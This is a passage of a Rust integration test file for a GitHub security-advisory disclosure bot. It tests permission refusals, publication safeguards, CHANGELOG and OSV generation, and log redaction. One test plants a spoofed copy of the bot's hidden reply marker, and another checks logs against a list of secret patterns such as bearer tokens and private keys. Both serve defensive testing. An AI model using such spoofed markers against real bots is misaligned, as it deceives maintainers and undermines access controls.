        .store
        .incidents_by_ghsa(&common::ghsa(GHSA))
        .await
        .expect("incidents");
    rows[0].incident.clone()
}

#[tokio::test]
async fn a_comment_that_copies_heralds_marker_is_not_taken_for_heralds() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "write");
    // Someone writes herald's hidden marker for the reply to a command that comes next.
    fake.add_comment(
        TRACKING_REPO,
        1,
        "mallory",
        "Nothing to see here.\n\n<!-- herald:reply c-1 -->",
    );
    command(&harness, "c-1", "alice", "/herald ack").await;
    let replies: Vec<_> = fake
        .comments(TRACKING_REPO, 1)
        .into_iter()
        .filter(|comment| comment.body.contains("<!-- herald:reply c-1 -->"))
        .collect();
    assert_eq!(
        replies.len(),
        2,
        "herald answered all the same: {replies:#?}"
    );
    assert!(
        replies
            .iter()
            .any(|reply| reply.user == "herald-test[bot]" && reply.body.starts_with("@alice ")),
        "{replies:#?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(someone_without_write_permission_is_politely_refused);
async fn someone_without_write_permission_is_politely_refused() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "mallory", "read");
    command(&harness, "c-1", "mallory", "/herald publish").await;

    let replies = answers(&fake);
    assert_eq!(replies.len(), 1, "{replies:?}");
    assert!(
        replies[0]
            .body
            .starts_with("@mallory Sorry, herald takes commands only from people with the write, maintain or admin role on the advisory's repository (you have the read role on Codertocat/Hello-World)"),
        "{}",
        replies[0].body
    );
    let incident = the_incident(&harness).await;
    assert_eq!(incident.phase, herald::incident::Phase::Awareness);
    assert!(!incident.decisions.disclosure_approved);
    assert_eq!(
        fake.count(
            "PATCH",
            &format!("/repos/{REPO}/security-advisories/{GHSA}")
        ),
        0
    );
    let timeline = harness
        .store
        .timeline(incident_id(&harness).await)
        .await
        .expect("timeline");
    assert!(
        timeline.iter().any(|stored| stored.entry.detail.contains(
            "refused `/herald publish`: mallory has the read role on Codertocat/Hello-World"
        )),
        "{timeline:?}"
    );
    // A label from the same person changes nothing either.
    say(
        &harness,
        "issues",
        "l-1",
        &label("mallory", "disclosure:approved"),
    )
    .await;
    assert!(!the_incident(&harness).await.decisions.disclosure_approved);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

/// The advisory's own path on GitHub (not public until published).
fn advisory_path() -> String {
    format!("/repos/{REPO}/security-advisories/{GHSA}")
}

/// Writes to the public repository other than the advisory itself.
fn publicity(fake: &FakeGitHub) -> Vec<String> {
    public_writes(fake)
        .into_iter()
        .filter(|write| !write.ends_with(&advisory_path()))
        .collect()
}

/// A tracked incident that alice approved for disclosure, with GitHub set up by `prepare`,
/// after alice said `/herald publish`.
async fn publish_approved(fake: &FakeGitHub, prepare: impl FnOnce(&FakeGitHub)) -> Harness {
    let harness = tracked(fake).await;
    fake.set_permission(REPO, "alice", "admin");
    say(
        &harness,
        "issues",
        "l-1",
        &label("alice", "disclosure:approved"),
    )
    .await;
    prepare(fake);
    command(&harness, "c-1", "alice", "/herald publish").await;
    harness
}

both_stores!(a_publication_github_refuses_starts_nothing_public);
async fn a_publication_github_refuses_starts_nothing_public() {
    let fake = world().await;
    let refusal = "A patched version is required to publish this advisory.";
    let harness = publish_approved(&fake, |fake| {
        fake.refuse_next("PATCH", &advisory_path(), 422, refusal);
    })
    .await;

    assert_eq!(public_writes(&fake), [format!("PATCH {}", advisory_path())]);
    assert_eq!(
        fake.count("PATCH", &advisory_path()),
        1,
        "a refusal is not retried"
    );
    let incident = the_incident(&harness).await;
    assert!(!incident.published_on_github());
    assert!(incident.phase < herald::incident::Phase::Disclosure);
    let explained = escalations(&fake, &format!("GitHub refused to publish {GHSA}"));
    assert_eq!(explained.len(), 1, "{:?}", answers(&fake));
    assert!(explained[0].contains(refusal), "{}", explained[0]);
    assert!(
        explained[0].contains("`/herald publish` again"),
        "{}",
        explained[0]
    );
    let failed = harness
        .store
        .failed_jobs(incident_id(&harness).await)
        .await
        .expect("failed jobs");
    assert_eq!(failed.len(), 1);
    assert_eq!(
        (failed[0].kind.as_str(), failed[0].attempts),
        ("publish_advisory", 1)
    );

    // `herald incidents show` lists it.
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["incidents", "show", GHSA])
        .env("HERALD_DATABASE_URL", &harness.database_url)
        .output()
        .await
        .expect("herald runs");
    let shown = String::from_utf8_lossy(&output.stdout);
    assert!(
        shown.contains("publish_advisory after 1 attempt(s)"),
        "{shown}"
    );
    assert!(shown.contains(refusal), "{shown}");

    // The maintainers fix the advisory and ask again: now it goes through.
    command(&harness, "c-2", "alice", "/herald publish").await;
    assert!(the_incident(&harness).await.published_on_github());
    assert!(!publicity(&fake).is_empty());
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_publication_held_back_since_is_not_made_by_running_its_job_again);
async fn a_publication_held_back_since_is_not_made_by_running_its_job_again() {
    let fake = world().await;
    let refusal = "A patched version is required to publish this advisory.";
    let harness = publish_approved(&fake, |fake| {
        fake.refuse_next("PATCH", &advisory_path(), 422, refusal);
    })
    .await;
    // The team holds disclosure back: the approval withdrawn, a later date set.
    say(
        &harness,
        "issues",
        "l-2",
        &unlabel("alice", "disclosure:approved"),
    )
    .await;
    command(
        &harness,
        "c-2",
        "alice",
        "/herald embargo 2035-01-01T00:00:00Z",
    )
    .await;
    // A write collaborator runs again what failed: the publication is not made.
    fake.set_permission(REPO, "bob", "write");
    command(&harness, "c-3", "bob", "/herald retry").await;
    assert_eq!(
        fake.count("PATCH", &advisory_path()),
        1,
        "asked once, before"
    );
    assert_ne!(fake.advisories(REPO)[0]["state"], "published");
    assert!(publicity(&fake).is_empty());
    let refused = escalations(&fake, "not published: disclosure needs the");
    assert_eq!(refused.len(), 1, "{:?}", answers(&fake));
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(github_confirms_the_publication_before_anything_goes_public);
async fn github_confirms_the_publication_before_anything_goes_public() {
    let fake = world().await;
    let harness = publish_approved(&fake, |_| {}).await;

    let incident = the_incident(&harness).await;
    assert!(incident.published_on_github());
    assert_eq!(incident.phase, herald::incident::Phase::Disclosure);
    let writes = public_writes(&fake);
    assert_eq!(
        writes.first(),
        Some(&format!("PATCH {}", advisory_path())),
        "{writes:?}"
    );
    assert!(writes.len() > 1, "the public channels followed: {writes:?}");
    // The public advisory issue tells when GitHub published it.
    let issue = fake
        .issues(REPO)
        .into_iter()
        .next()
        .expect("the public advisory issue");
    assert!(!issue.body.contains("not yet"), "{}", issue.body);
    // The tracking issue says the embargo is over.
    let tracking = &fake.issues(TRACKING_REPO)[0];
    assert!(
        tracking.body.contains("**Published** on GitHub"),
        "{}",
        tracking.body
    );
    assert!(
        !tracking.body.contains("**Embargoed.**"),
        "{}",
        tracking.body
    );
    // Asking again publishes nothing twice.
    let before = public_writes(&fake).len();
    command(&harness, "c-2", "alice", "/herald publish").await;
    assert_eq!(public_writes(&fake).len(), before);
    assert!(
        answers(&fake)
            .iter()
            .any(|answer| answer.body.contains("already published on GitHub"))
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_publication_that_went_through_before_a_crash_is_not_asked_again);
async fn a_publication_that_went_through_before_a_crash_is_not_asked_again() {
    let fake = world().await;
    // An earlier attempt's PATCH went through, and herald stopped before recording it:
    // GitHub has the advisory published already.
    let harness = publish_approved(&fake, |fake| {
        let mut advisory = fake.advisories(REPO).remove(0);
        advisory["state"] = "published".into();
        advisory["published_at"] = "2026-11-30T10:00:00Z".into();
        advisory["updated_at"] = "2026-11-30T10:00:00Z".into();
        fake.put_advisory(REPO, advisory);
    })
    .await;
    assert_eq!(fake.count("PATCH", &advisory_path()), 0);
    assert!(the_incident(&harness).await.published_on_github());
    let pulls = fake.pulls(REPO);
    assert_eq!(
        pulls.len(),
        1,
        "the CHANGELOG pull request, once: {pulls:?}"
    );
    assert_eq!(fake.issues(REPO).len(), 1, "the advisory issue, once");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(channels_left_undone_at_a_stop_run_after_restart_once);
async fn channels_left_undone_at_a_stop_run_after_restart_once() {
    let fake = world().await;
    let mut harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "admin");
    say(
        &harness,
        "issues",
        "l-1",
        &label("alice", "disclosure:approved"),
    )
    .await;
    // The CHANGELOG branch cannot be created yet: a failed POST is not repeated at once,
    // its job waits for its retry, and herald stops meanwhile.
    fake.fail_next("POST", &format!("/repos/{REPO}/git/refs"), 502, None);
    let answer = harness
        .deliver("issue_comment", "c-1", &comment("alice", "/herald publish"))
        .await;
    assert_eq!(answer.status, 202);
    let owed = "SELECT COUNT(*) FROM outbox WHERE kind = 'changelog_pr' AND state = 'pending' \
                AND attempts = 1";
    harness
        .until(owed, async || harness.count(owed).await == 1)
        .await;
    assert_eq!(
        harness.count(owed).await,
        1,
        "the CHANGELOG job failed once"
    );
    assert!(the_incident(&harness).await.published_on_github());
    harness.restart(true).await;
    harness.wait_all_jobs().await;
    assert_eq!(fake.pulls(REPO).len(), 1, "opened after the restart, once");
    assert_eq!(fake.issues(REPO).len(), 1, "the advisory issue, once");
    assert_eq!(fake.count("PATCH", &advisory_path()), 1, "published once");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(what_github_reserves_for_admins_herald_reserves_too);
async fn what_github_reserves_for_admins_herald_reserves_too() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "bob", "write");
    fake.set_permission(REPO, "dave", "maintain");
    fake.set_permission(REPO, "carol", "admin");
    // A security manager through a team reads the repository only.
    fake.set_permission(REPO, "erin", "read");
    fake.add_security_manager_team("Codertocat", "security", &["erin"]);

    // Write and maintain collaborators assess and record...
    command(
        &harness,
        "c-1",
        "bob",
        "/herald ack\n/herald severity high\n/herald embargo 2031-01-01T00:00:00Z",
    )
    .await;
    let incident = the_incident(&harness).await;
    assert!(incident.decisions.acknowledged_at.is_some());
    assert_eq!(incident.severity, herald::incident::Severity::High);
    // ...but cannot approve, pull the date in, publish, pre-notify, ask for a CVE or a fork.
    say(
        &harness,
        "issues",
        "l-1",
        &label("bob", "disclosure:approved"),
    )
    .await;
    command(
        &harness,
        "c-2",
        "dave",
        "/herald embargo 2000-01-01T00:00:00Z\n/herald publish\n/herald prenotify\n/herald request-cve\n/herald fork",
    )
    .await;
    let incident = the_incident(&harness).await;
    assert!(!incident.decisions.disclosure_approved);
    assert_eq!(
        incident.decisions.embargo_until.map(|at| at.to_rfc3339()),
        Some("2031-01-01T00:00:00+00:00".to_owned())
    );
    assert_eq!(fake.cve_requests().len(), 0);
    let replies = answers(&fake);
    let label_refusal = &replies[1].body;
    assert!(
        label_refusal.starts_with("@bob Not done: “label \\`disclosure:approved\\` added” needs the admin role on the advisory's repository or the organisation's security manager role, as GitHub reserves it; you have the write role on Codertocat/Hello-World."),
        "{label_refusal}"
    );
    let refusals = &replies[2].body;
    for command in [
        "/herald embargo 2000-01-01T00:00:00Z",
        "/herald publish",
        "/herald prenotify",
        "/herald request-cve",
        "/herald fork",
    ] {
        assert!(
            refusals.contains(&format!("Not done: “{command}” needs the admin role")),
            "{command} not refused in {refusals}"
        );
    }
    assert!(refusals.contains("you have the maintain role on Codertocat/Hello-World"));
    // A maintainer may still hold disclosure back.
    command(
        &harness,
        "c-3",
        "dave",
        "/herald embargo 2032-01-01T00:00:00Z",
    )
    .await;
    assert_eq!(
        the_incident(&harness)
            .await
            .decisions
            .embargo_until
            .map(|at| at.to_rfc3339()),
        Some("2032-01-01T00:00:00+00:00".to_owned())
    );

    // An admin approves and sets the date in as many actions as before; a security manager
    // publishes.
    say(
        &harness,
        "issues",
        "l-2",
        &label("carol", "disclosure:approved"),
    )
    .await;
    command(
        &harness,
        "c-4",
        "carol",
        "/herald embargo 2020-01-01T00:00:00Z",
    )
    .await;
    assert!(the_incident(&harness).await.decisions.disclosure_approved);
    command(&harness, "c-5", "erin", "/herald publish").await;
    assert_eq!(fake.advisories(REPO)[0]["state"], "published");
    assert_eq!(
        the_incident(&harness).await.phase,
        herald::incident::Phase::Disclosure
    );
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline.iter().any(|detail| detail
            == "refused `/herald publish`: dave has the maintain role on Codertocat/Hello-World"),
        "{timeline:?}"
    );
    assert!(
        timeline
            .iter()
            .any(|detail| detail == "publication requested"),
        "{timeline:?}"
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn an_organisation_may_ask_a_second_person_to_publish() {
    let fake = world().await;
    // alice approves, then the rule arrives, then alice asks to publish.
    let harness = publish_approved(&fake, |fake| {
        fake.put_file(
            REPO,
            ".github/herald.yml",
            &format!("{TRACK_PRIVATELY}disclosure:\n  second_person: true\n"),
        );
    })
    .await;
    fake.set_permission(REPO, "dave", "admin");
    assert_ne!(fake.advisories(REPO)[0]["state"], "published");
    let refused = answers(&fake).last().expect("a reply").body.clone();
    assert!(
        refused.contains("alice approved disclosure, and this repository asks a second admin or security manager to publish it"),
        "{refused}"
    );
    // dave asks, GitHub refuses; dave then approves anew himself, and the failed job is run
    // again by someone else: still one person, so not published.
    fake.refuse_next(
        "PATCH",
        &advisory_path(),
        422,
        "A patched version is required.",
    );
    command(&harness, "c-2", "dave", "/herald publish").await;
    say(
        &harness,
        "issues",
        "l-2",
        &unlabel("dave", "disclosure:approved"),
    )
    .await;
    say(
        &harness,
        "issues",
        "l-3",
        &label("dave", "disclosure:approved"),
    )
    .await;
    fake.set_permission(REPO, "bob", "write");
    command(&harness, "c-3", "bob", "/herald retry").await;
    assert_ne!(fake.advisories(REPO)[0]["state"], "published");
    assert!(
        !escalations(&fake, "not published: dave approved disclosure").is_empty(),
        "{:?}",
        answers(&fake)
    );
    // A second person publishes.
    command(&harness, "c-4", "alice", "/herald publish").await;
    assert_eq!(fake.advisories(REPO)[0]["state"], "published");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn a_security_manager_is_refused_when_github_will_not_show_the_organisations_roles() {
    let fake = world().await;
    fake.forbid_org_roles();
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "erin", "read");
    fake.add_security_manager("Codertocat", "erin");
    command(&harness, "c-1", "erin", "/herald request-cve").await;
    assert_eq!(fake.cve_requests().len(), 0);
    let replies = answers(&fake);
    assert!(
        replies[0].body.contains(
            "you have the read role on Codertocat/Hello-World; GitHub did not say whether they \
             are a security manager of Codertocat: Resource not accessible by integration"
        ),
        "{}",
        replies[0].body
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_maintainer_commands_by_comment_and_label);
async fn a_maintainer_commands_by_comment_and_label() {
    let fake = world().await;
    let harness = tracked(&fake).await;
    fake.set_permission(REPO, "alice", "admin");

    // Publishing needs approval first.
    command(&harness, "c-1", "alice", "/herald publish").await;
    let replies = answers(&fake);
    assert!(
        replies[0]
            .body
            .contains("disclosure needs the `disclosure:approved` label"),
        "{}",
        replies[0].body
    );
    assert_eq!(
        the_incident(&harness).await.phase,
        herald::incident::Phase::Awareness
    );

    say(
        &harness,
        "issues",
        "l-1",
        &label("alice", "disclosure:approved"),
    )
    .await;
    assert!(the_incident(&harness).await.decisions.disclosure_approved);
    assert_eq!(answers(&fake).len(), 1, "labels are answered quietly");

    command(&harness, "c-2", "alice", "Fixed in 1.2.3.\n/herald coordinator @alice\n/herald threat active\n/herald severity high\n/herald request-cve\n/herald publish\n/herald frobnicate").await;
    let incident = the_incident(&harness).await;
    assert_eq!(incident.phase, herald::incident::Phase::Disclosure);
    assert_eq!(incident.decisions.coordinator.as_deref(), Some("alice"));
    assert_eq!(
        incident.decisions.threat,
        Some(herald::incident::Threat::Active)
    );
    assert_eq!(incident.severity, herald::incident::Severity::High);
    assert_eq!(fake.cve_requests(), vec![GHSA.to_owned()]);
    assert_eq!(
        fake.count(
            "PATCH",
            &format!("/repos/{REPO}/security-advisories/{GHSA}")
        ),
        1
    );
    assert_eq!(fake.advisories(REPO)[0]["state"], "published");

    let replies = answers(&fake);
    assert_eq!(replies.len(), 3, "{replies:?}");
    let reply = &replies[1].body;
    // An active threat is escalated at once, on the tracking issue.
    assert!(
        replies[2]
            .body
            .starts_with("@alice GHSA-abcd-1234-efgh is an active threat"),
        "{}",
        replies[2].body
    );
    for expected in [
        "@alice",
        "alice coordinates this incident",
        "this is an emergency",
        "Severity set to high",
        "Requesting a CVE id",
        "Asking GitHub to publish the advisory",
        "I did not understand",
        "herald understands these commands",
    ] {
        assert!(reply.contains(expected), "missing {expected:?} in {reply}");
    }
    let timeline = timeline_details(&harness).await;
    for expected in [
        "disclosure approved",
        "coordinator set to alice",
        "threat set to active",
        "severity set to high",
        "CVE requested",
        "publication requested",
        "phase awareness → disclosure",
        "CVE id requested from GitHub",
        "advisory published on GitHub at the maintainers' request",
    ] {
        assert!(
            timeline.iter().any(|detail| detail == expected),
            "missing {expected:?} in {timeline:?}"
        );
    }
    // The tracking issue follows: labels and body.
    let issue = &fake.issues(TRACKING_REPO)[0];
    assert!(
        issue.labels.contains(&"threat:active".to_owned()),
        "{:?}",
        issue.labels
    );
    assert!(
        issue.labels.contains(&"severity:high".to_owned()),
        "{:?}",
        issue.labels
    );
    assert!(
        !issue.labels.contains(&"severity:critical".to_owned()),
        "{:?}",
        issue.labels
    );
    assert!(
        issue.body.contains("| Coordinator | alice |"),
        "{}",
        issue.body
    );
    assert!(issue.body.contains("| CVE | requested "), "{}", issue.body);
    assert!(
        issue
            .body
            .contains("set by a maintainer (computed: critical, computed from CVSS 4.0)"),
        "{}",
        issue.body
    );

    // `herald incidents show` tells the decisions.
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["incidents", "show", GHSA])
        .env("HERALD_DATABASE_URL", &harness.database_url)
        .output()
        .await
        .expect("herald runs");
    let shown = String::from_utf8_lossy(&output.stdout);
    for expected in [
        "Severity:    high (set by a maintainer)",
        "Computed:    critical (computed from CVSS 4.0)",
        "Coordinator: alice",
        "Threat:      active",
        "Disclosure:  approved",
        "Tracking issue: Codertocat/security#1",
    ] {
        assert!(
            shown.contains(expected),
            "missing {expected:?} in:\n{shown}"
        );
    }

    // GitHub redelivers the comment: nothing happens twice.
    let again = harness
        .deliver(
            "issue_comment",
            "c-2",
            &comment("alice", "/herald request-cve"),
        )
        .await;
    assert_eq!(again.status, 200);
    harness.wait_all_jobs().await;
    assert_eq!(answers(&fake).len(), 3);
    assert_eq!(fake.cve_requests().len(), 1);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

#[tokio::test]
async fn serve_with_a_github_app_logs_no_token_key_secret_or_advisory_text() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchannels:\n  github_wiki: true\nmailing_lists:\n  - address: announce@lists.example.org\n",
    );
    // The wiki is pushed with the installation token: it must not reach the log either.
    let git = common::gitserver::GitServer::start().await;
    git.create_wiki(REPO);
    let dir = tempfile::tempdir().expect("tempdir");
    let log_path = dir.path().join("herald.log");
    // Mail with a password-protected signing key, and an SMTP password the test server
    // cannot take (it offers no AUTH): the failure is logged, the secrets are not.
    let sink = SmtpSink::start();
    let signing_key = {
        use sequoia_openpgp::cert::prelude::*;
        use sequoia_openpgp::serialize::SerializeInto;
        let (cert, _) = CertBuilder::new()
            .set_cipher_suite(CipherSuite::Cv25519)
            .add_userid("Security <security@example.org>")
            .add_signing_subkey()
            .set_password(Some("passphrase-never-logged".into()))
            .generate()
            .expect("key");
        String::from_utf8(cert.as_tsk().armored().to_vec().expect("armor")).expect("armor")
    };
    let key_file = dir.path().join("signing-key.asc");
    std::fs::write(&key_file, &signing_key).expect("key file");
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|listener| listener.local_addr())
        .expect("free port")
        .port();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_herald"))
        .args(["serve", "--log-json"])
        .current_dir(dir.path())
        .env("HERALD_LISTEN", format!("127.0.0.1:{port}"))
        .env("HERALD_WEBHOOK_SECRET", common::SECRET)
        .env("HERALD_GITHUB_API_URL", &fake.url)
        .env("HERALD_GITHUB_APP_ID", APP_ID.to_string())
        .env("HERALD_GITHUB_PRIVATE_KEY", private_key())
        .env("HERALD_WORKER_POLL_INTERVAL_MS", "50")
        .env(
            "HERALD_SMTP_URL",
            format!(
                "smtp://herald:smtp-password-never-logged@127.0.0.1:{}?tls=none",
                sink.port
            ),
        )
        .env("HERALD_MAIL_FROM", "Security <security@example.org>")
        .env("HERALD_GITHUB_WEB_URL", &git.url)
        .env("HERALD_SIGNING_KEY_FILE", &key_file)
        .env("HERALD_SIGNING_KEY_PASSPHRASE", "passphrase-never-logged")
        .env("HERALD_LOG", "trace")
        .stdout(std::process::Stdio::null())
        .stderr(std::fs::File::create(&log_path).expect("log file"))
        .spawn()
        .expect("herald serve starts");
    let client = common::http_client();
    let send = |event: &'static str, id: &'static str, body: Vec<u8>| {
        let client = client.clone();
        async move {
            client
                .post(format!("http://127.0.0.1:{port}/webhooks"))
                .header("X-GitHub-Event", event)
                .header("X-GitHub-Delivery", id)
                .header("Content-Type", "application/json")
                .header(
                    "X-Hub-Signature-256",
                    herald::ingest::signature::sign(&SecretString::from(common::SECRET), &body),
                )
                .body(body)
                .send()
                .await
                .map(|response| response.status().as_u16())
                .ok()
        }
    };
    let mut ready = false;
    for _ in 0..200 {
        if send("ping", "ping-1", fixture("ping.0.json")).await == Some(200) {
            ready = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(ready, "herald serve did not come up");
    assert_eq!(
        send(
            "installation",
            "i-1",
            fixture("installation.created.0.json")
        )
        .await,
        Some(202)
    );
    assert_eq!(
        send(
            "repository_advisory",
            "r-1",
            advisory("repository_advisory.reported.composed.json")
        )
        .await,
        Some(202)
    );
    for _ in 0..400 {
        if !fake.issues(TRACKING_REPO).is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(
        fake.issues(TRACKING_REPO).len(),
        1,
        "the tracking issue was opened"
    );
    // Let the job finish (drafts comment, record) before going on.
    for _ in 0..400 {
        let log = std::fs::read_to_string(&log_path).unwrap_or_default();
        if log.contains("effect done") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    // Disclosure: the announcement is signed and its sending fails at AUTH.
    assert_eq!(
        send(
            "repository_advisory",
            "p-1",
            advisory("repository_advisory.published.composed.json")
        )
        .await,
        Some(202)
    );
    for _ in 0..400 {
        let log = std::fs::read_to_string(&log_path).unwrap_or_default();
        if log.contains("send_mail") && log.contains("will retry") && log.contains("wiki page") {
            break;
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    child.kill().expect("stop herald");
    child.wait().expect("reaped");

    let log = std::fs::read_to_string(&log_path).expect("log");
    assert!(log.contains("effect done"), "the log is real: {log}");
    assert!(
        log.contains("send_mail") && log.contains("herald:***@127.0.0.1"),
        "the failed send is logged, its URL redacted: {log}"
    );
    let key = private_key();
    let key_line = key.lines().nth(1).expect("a key line");
    let signing_key_line = signing_key
        .lines()
        .find(|line| line.len() > 40 && !line.contains(':'))
        .expect("a line of key material");
    assert!(
        git.file(REPO, &format!("Security-Advisories/{GHSA}.md"))
            .is_some(),
        "the wiki was pushed: {log}"
    );
    for token in git.tokens() {
        assert!(
            !log.contains(&token),
            "the installation token leaked into the log"
        );
    }
    for secret in [
        "smtp-password-never-logged",
        "passphrase-never-logged",
        signing_key_line,
        "ghs_fake",
        "Bearer",
        "eyJ",
        "BEGIN RSA",
        key_line,
        common::SECRET,
        "A short summary of the advisory",
        "CVSS:3.1/AV:N",
    ] {
        assert!(
            !log.contains(secret),
            "{secret:?} leaked into the log: {}",
            log.lines()
                .filter(|line| line.contains(secret))
                .take(3)
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
}

const CHANGELOG: &str = "# Changelog\r\n\r\n## [Unreleased]\r\n\r\n### Fixed\r\n\r\n- A crash on empty input.\r\n\r\n## [1.0.0] - 2026-01-01\r\n\r\n### Added\r\n\r\n- Everything.\r\n\r\n[unreleased]: https://github.com/Codertocat/Hello-World/compare/v1.0.0...HEAD\r\n";

/// The published advisory as GitHub sends it, changed by `edit`.
fn published_advisory(edit: impl FnOnce(&mut serde_json::Value)) -> Vec<u8> {
    let mut payload: serde_json::Value =
        serde_json::from_slice(&advisory("repository_advisory.published.composed.json"))
            .expect("JSON");
    edit(&mut payload["repository_advisory"]);
    serde_json::to_vec(&payload).expect("JSON")
}

/// GitHub publishes the example advisory (delivery `publish-1`), and herald follows.
async fn github_publishes(harness: &Harness) {
    say(
        harness,
        "repository_advisory",
        "publish-1",
        &advisory("repository_advisory.published.composed.json"),
    )
    .await;
}

/// The published advisory's summary changes.
async fn publish_a_sharper_summary(harness: &Harness) {
    let changed = published_advisory(|advisory| {
        advisory["summary"] = "A sharper summary".into();
        advisory["updated_at"] = "2020-01-04T00:00:00Z".into();
    });
    say(harness, "repository_advisory", "publish-2", &changed).await;
}

both_stores!(disclosure_opens_the_changelog_pull_requests_and_the_advisory_issue_once);
async fn disclosure_opens_the_changelog_pull_requests_and_the_advisory_issue_once() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nchangelog:\n  backport_branches: [release-1.x]\n",
    );
    fake.put_file(REPO, "CHANGELOG.md", CHANGELOG);
    fake.create_branch(REPO, "release-1.x", "main");
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    assert!(fake.pulls(REPO).is_empty(), "nothing public under embargo");

    github_publishes(&harness).await;

    let branch = format!("herald/security/{GHSA}");
    let backport = format!("herald/security/{GHSA}-release-1.x");
    let branches = fake.branches(REPO);
    assert!(
        branches.contains(&branch) && branches.contains(&backport),
        "{branches:?}"
    );
    assert_eq!(
        fake.file(REPO, "main", "CHANGELOG.md").as_deref(),
        Some(CHANGELOG),
        "main is untouched"
    );
    let changelog = fake
        .file(REPO, &branch, "CHANGELOG.md")
        .expect("CHANGELOG on the branch");
    assert!(
        !changelog.replace("\r\n", "").contains('\n'),
        "CRLF stays CRLF:\n{changelog:?}"
    );
    for line in CHANGELOG.split("\r\n") {
        assert!(changelog.contains(line), "lost {line:?}");
    }
    let unreleased = changelog.find("## [Unreleased]").expect("Unreleased");
    let security = changelog
        .find("### Security")
        .expect("a Security subsection");
    let entry = changelog
        .find("**Critical**: A short summary of the advisory.")
        .expect("the entry");
    let release = changelog.find("## [1.0.0]").expect("the release");
    assert!(
        unreleased < security && security < entry && entry < release,
        "{changelog}"
    );
    assert!(
        changelog.find("### Fixed").expect("Fixed") < security,
        "Security comes after Fixed"
    );

    // The OSV record rides in the same pull requests, at the default path.
    let osv_path = format!("advisories/{GHSA}.json");
    assert_eq!(
        fake.file(REPO, "main", &osv_path),
        None,
        "main is untouched"
    );
    for head in [&branch, &backport] {
        let text = fake.file(REPO, head, &osv_path).expect("the OSV record");
        let osv = common::osv::valid_osv(&text);
        assert_eq!(osv["id"], GHSA);
        assert_eq!(osv["summary"], "A short summary of the advisory.");
        assert!(osv["published"].is_string(), "{osv}");
    }
    let first_modified = common::osv::valid_osv(&fake.file(REPO, &branch, &osv_path).expect("OSV"))
        ["modified"]
        .clone();

    let pulls = fake.pulls(REPO);
    assert_eq!(pulls.len(), 2, "{pulls:?}");
    let main_pull = pulls
        .iter()
        .find(|pull| pull.base == "main")
        .expect("into main");
    assert_eq!(main_pull.head, branch);
    assert_eq!(main_pull.labels, vec!["security"]);
    assert!(main_pull.title.contains(GHSA), "{}", main_pull.title);
    assert!(
        pulls
            .iter()
            .any(|pull| pull.base == "release-1.x" && pull.head == backport)
    );

    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1, "one public advisory issue");
    assert_eq!(issues[0].labels, vec!["security"]);
    assert!(issues[0].body.contains("### Upgrade"), "{}", issues[0].body);
    assert!(
        issues[0]
            .body
            .contains(&format!("/pull/{}", main_pull.number)),
        "links the CHANGELOG pull request: {}",
        issues[0].body
    );
    let timeline = timeline_details(&harness).await;
    assert!(
        timeline
            .iter()
            .any(|detail| detail.starts_with("CHANGELOG pull request")),
        "{timeline:?}"
    );
    assert!(
        timeline
            .iter()
            .any(|detail| detail.starts_with("public advisory issue")),
        "{timeline:?}"
    );

    // The advisory changes after publication: the same PRs and issue are updated.
    publish_a_sharper_summary(&harness).await;
    assert_eq!(fake.pulls(REPO).len(), 2, "no second pull request");
    assert_eq!(fake.issues(REPO).len(), 1, "no second advisory issue");
    let changelog = fake.file(REPO, &branch, "CHANGELOG.md").expect("CHANGELOG");
    assert!(changelog.contains("A sharper summary"), "{changelog}");
    assert!(
        !changelog.contains("A short summary of the advisory."),
        "the entry was replaced: {changelog}"
    );
    assert_eq!(changelog.matches("### Security").count(), 1);
    assert!(fake.issues(REPO)[0].body.contains("A sharper summary"));
    // The OSV record follows the new version of the advisory.
    let osv = common::osv::valid_osv(&fake.file(REPO, &branch, &osv_path).expect("OSV"));
    assert_eq!(osv["summary"], "A sharper summary");
    assert_eq!(osv["modified"], "2020-01-04T00:00:00Z");
    assert_ne!(osv["modified"], first_modified);
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(the_osv_record_goes_where_the_configuration_says_or_nowhere);
async fn the_osv_record_goes_where_the_configuration_says_or_nowhere() {
    let fake = world().await;
    fake.put_file(
        REPO,
        ".github/herald.yml",
        "tracking:\n  repository: Codertocat/security\nosv:\n  path: security/osv\n",
    );
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;
    github_publishes(&harness).await;
    let branch = format!("herald/security/{GHSA}");
    let text = fake
        .file(REPO, &branch, &format!("security/osv/{GHSA}.json"))
